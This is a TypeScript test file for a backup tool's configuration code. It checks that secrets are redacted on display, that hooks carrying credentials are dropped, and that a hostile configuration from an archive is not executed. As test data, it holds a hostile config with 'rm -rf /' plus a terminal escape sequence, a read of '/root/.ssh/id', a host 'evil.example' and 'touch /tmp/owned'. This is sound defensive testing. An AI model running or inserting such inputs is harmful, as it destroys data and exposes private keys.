import assert from 'node:assert/strict'
import { test } from 'node:test'
import { z } from 'zod'
import { configFromManifest } from '../../src/config/config-from-manifest.ts'
import { configSchema } from '../../src/config/config-schema.ts'
import { mapSecrets } from '../../src/config/map-secrets.ts'
import { parseConfig } from '../../src/config/parse-config.ts'
import { isPlainCommand } from '../../src/config/plain-command.ts'
import { showConfig } from '../../src/config/show-config.ts'
import { secretRefSchema } from '../../src/model/secret-ref.ts'

const secretForms = ['c4nary', 'c4nary${PW}', { command: 'echo c4nary' }, { command: ['echo', 'c4nary'] }] as const

function shown(config: object, name = 'demo'): string {
  return showConfig(parseConfig(JSON.stringify(config), '/etc/h.yaml', '/home/u'), name)
}

test('a secret in any place that can hold one is shown as set only', () => {
  for (const secret of secretForms) {
    const text = shown({
      apps: { demo: { root: '/srv/demo', password: secret, databases: [{ type: 'mariadb', name: 'shop', user: 'shop', password: secret, tls: { key: '/etc/key.pem' } }], jeedom: { url: 'http://h', apiKey: secret, event: 1 }, ping: { url: secret }, containers: { services: { db: { dump: { password: secret, token: secret } } } } } },
      vaults: { nas: { type: 'archive', place: '/mnt/nas', password: secret } },
      ...tellers(secret),
    })
    assert.doesNotMatch(text, /c4nary/)
    assert.equal(text.match(/(?:password|apiKey|token|url): \(set\)/g)?.length, 7, text)
    assert.match(text, /key: \/etc\/key\.pem/)
  }
})

/** Notifiers and a broker with a secret in each place that can hold one. */
function tellers(secret: unknown): { readonly notify: object; readonly mqtt: object } {
  return {
    notify: {
      mail: { type: 'mail', host: 'h', from: 'a@b.c', to: ['a@b.c'], user: 'u', password: secret },
      ntfy: { type: 'ntfy', topic: secret, token: secret },
      gotify: { type: 'gotify', url: 'http://h', token: secret },
      webhook: { type: 'webhook', url: secret, secret },
      http: { type: 'http', url: secret, headers: { 'X-Plain': secret }, body: secret },
    },
    mqtt: { url: 'mqtt://h', user: 'u', password: secret },
  }
}

test('secrets of notifiers and of a broker are found wherever they stand', () => {
  for (const secret of secretForms) {
    const paths: string[] = []
    const mapped = mapSecrets(configSchema, { apps: {}, ...tellers(secret) }, (_found, path) => {
      paths.push(path.join('.'))
      return '(set)'
    })
    assert.doesNotMatch(JSON.stringify(mapped), /c4nary/)
    assert.equal(paths.length, 10, paths.join(' '))
  }
})

test('every secret of the schema is known to the tests above', () => {
  // A new driver with a secret must be added there: this counts the places in the schema that hold one.
  const places: string[] = []
  const visit = (node: unknown, path: string): void => {
    if (typeof node !== 'object' || node === null) return
    if (Reflect.get(node, 'secret') === true) places.push(path)
    for (const [key, value] of Object.entries(node)) visit(value, `${path}/${key}`)
  }
  visit(z.toJSONSchema(configSchema, { io: 'input' }), '')
  assert.equal(places.length, 17, places.join('\n'))
})

test('harmless references are kept', () => {
  const text = shown({ apps: { demo: { root: '/srv/demo', password: '${PW}' } }, vaults: { one: { type: 'archive', place: '/1', password: { env: 'ONE' } }, two: { type: 'archive', place: '/2', password: { file: 'two.pw' } } } })
  assert.match(text, /password: \$\{PW\}/)
  assert.match(text, /env: ONE/)
  assert.match(text, /file: \/etc\/two\.pw/)
})

test('commands of hooks are kept only where they surely hold no secret', () => {
  for (const command of ['/srv/demo/stop.sh', 'docker compose -f /srv/demo/docker-compose.yml stop', ['systemctl', 'stop', 'demo.service'], 'sync --file-system']) {
    assert.ok(isPlainCommand(command), String(command))
    assert.match(shown({ apps: { demo: { root: '/srv/demo', hooks: { frozen: [{ command }] } } } }), /stop|sync/)
  }
  for (const command of [
    'mysql -pC4NARY', 'mysql --password=C4NARY', 'mysql --password C4NARY', 'mysql --password canary', 'TOKEN=C4NARY notify', 'curl https://u:C4NARY@host/x', 'curl https://hc.example/C4NARY-4f1b',
    'curl -H "Authorization: Bearer C4NARY" x', ['notify', 'C4NARY1'], 'echo hunter2C4NARY', 'echo $(cat C4NARY)', '/ping/C4NARYabcdefghijklmnopqrstuvwxyz0123', 'x\ny: C4NARY',
  ]) {
    const text = shown({ apps: { demo: { root: '/srv/demo', hooks: { after: [{ command }] } } } })
    assert.doesNotMatch(text, /c4nary|password canary/i, String(command))
    assert.match(text, /not kept/)
  }
})

test('the password in an address is cut out', () => {
  const text = shown({ apps: { demo: { root: '/srv/demo' } }, vaults: { nas: { type: 'archive', place: '/sftp:/' } }, place: '/x' }).concat(showConfig({ ...parseConfig('apps: {demo: {root: /x}}', '/h', '/'), place: 'sftp://ann:c4nary@nas/x' }, 'demo'))
  assert.doesNotMatch(text, /c4nary/)
  assert.match(text, /sftp:\/\/ann@nas/)
})

test('only the application and its vaults are shown', () => {
  const text = shown({ apps: { demo: { root: '/srv/demo', vaults: ['nas'] }, other: { root: '/srv/other' } }, vaults: { nas: { type: 'archive', place: '/mnt/nas' }, usb: { type: 'archive', place: '/mnt/usb' } } })
  assert.doesNotMatch(text, /other|usb/)
})

test('a text under a key that no schema knows and that names a secret is replaced', () => {
  assert.deepEqual(mapSecrets(z.looseObject({ known_key: z.string() }), { api_token: 'x', nested: { password: 'y' }, known_key: 'z', plain: 1 }, () => '(set)'), { api_token: '(set)', nested: { password: '(set)' }, known_key: 'z', plain: 1 })
  assert.deepEqual(mapSecrets(z.object({ a: z.array(secretRefSchema.optional().describe('x')) }), { a: ['x', { env: 'Y' }] }, () => 0), { a: [0, 0] })
})

test('a configuration comes back from a restore point with placeholders for its secrets', () => {
  const before = parseConfig(JSON.stringify({
    apps: { demo: { root: '/srv/demo', keep: { daily: 7 }, password: 'c4nary', databases: [{ type: 'mariadb', password: { file: '/etc/db.pw' } }], hooks: { frozen: [{ command: '/srv/demo/stop.sh' }, { command: 'x C4NARY' }] } } },
    vaults: { nas: { type: 'archive', place: '/mnt/nas', format: 'zip', password: '${NAS}' } },
  }), '/etc/h.yaml', '/home/u')
  const { text, notes } = configFromManifest(showConfig(before, 'demo'), { trustHooks: false })
  const after = parseConfig(text, '/etc/h.yaml', '/home/u')
  assert.deepEqual(after.apps['demo']?.password, { env: 'HOLDFAST_DEMO_PASSWORD' })
  assert.deepEqual(after.apps['demo']?.databases, [{ type: 'mariadb', password: { env: 'HOLDFAST_DEMO_DATABASES_1_PASSWORD' } }])
  assert.deepEqual(after.vaults['nas']?.password, { env: 'NAS' })
  assert.deepEqual(after.apps['demo']?.keep, { daily: 7 })
  assert.deepEqual(after.apps['demo']?.hooks, {})
  assert.ok(notes.some((note) => note.includes('"/srv/demo/stop.sh" was left out')), notes.join('\n'))
  assert.equal(notes.length, 5)
  const trusted = parseConfig(configFromManifest(showConfig(before, 'demo'), { trustHooks: true }).text, '/h', '/')
  assert.deepEqual(trusted.apps['demo']?.hooks.frozen, [{ command: '/srv/demo/stop.sh', timeout: '10m', onError: 'fail' }])
})

test('a hostile configuration in an archive runs no command and reads no file', () => {
  const hostile = JSON.stringify({
    apps: { demo: { root: '/x', password: { command: 'touch /tmp/owned' }, databases: [{ type: 'mariadb', host: 'evil.example', password: { file: '/root/.ssh/id' } }], hooks: { after: [{ command: 'rm -rf /\u001b[2J' }] } } },
  })
  const { text, notes } = configFromManifest(hostile, { trustHooks: false })
  assert.doesNotMatch(text, /owned|ssh|rm -rf/)
  assert.ok(!`${text}${notes.join('')}`.includes('\u001b'))
  for (const bad of ['', 'apps: [', 'apps: {demo: {root: 5}}', 'apps: {demo: {root: /x, evil: 1}}', 'a: *b']) assert.throws(() => configFromManifest(bad, { trustHooks: true }), { code: 'config.invalid' }, bad)
})
